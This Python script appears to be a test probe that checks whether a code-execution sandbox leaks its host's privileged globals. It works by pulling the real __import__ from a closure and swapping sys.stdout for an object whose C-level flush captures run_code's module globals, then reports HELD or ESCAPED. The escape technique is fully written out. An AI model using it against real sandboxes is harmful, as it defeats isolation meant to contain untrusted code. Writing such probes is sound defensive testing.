# held: 1
# Layer 2 probe: after the user's code returns, run_code calls sys.stdout.flush(), and user code may replace sys.stdout; a C callable as `flush` pushes no frame, so the builtin globals()/locals() it calls return run_code's: the zygote's module globals (CONFIG, run_code, guards, TRUSTED, STDERR) and run_code's locals. (A fixed sandbox prints only the HELD line below.)
real_import = [c.cell_contents for c in __import__.__closure__ if type(c.cell_contents).__name__ == "builtin_function_or_method" and c.cell_contents.__name__ == "__import__"][0]
sys = real_import("sys")
B = real_import("builtins")
functools = real_import("functools")
out = sys.stdout
print("HELD run_code globals (a leak would print a line after this one)")
out.flush()
store = []
class Flusher:
    flush = functools.partial(next, map(store.append, iter(B.globals, object())))
    write = out.write
class Reporter:
    write = out.write
    def flush(self):
        g = store[0] if store else {}
        found = sorted(k for k in ("CONFIG", "run_code", "guards", "TRUSTED", "STDERR") if k in g)
        if found:
            out.write("ESCAPED run_code globals %r\n" % found)
        out.flush()
sys.stdout = Flusher()
sys.stderr = Reporter()
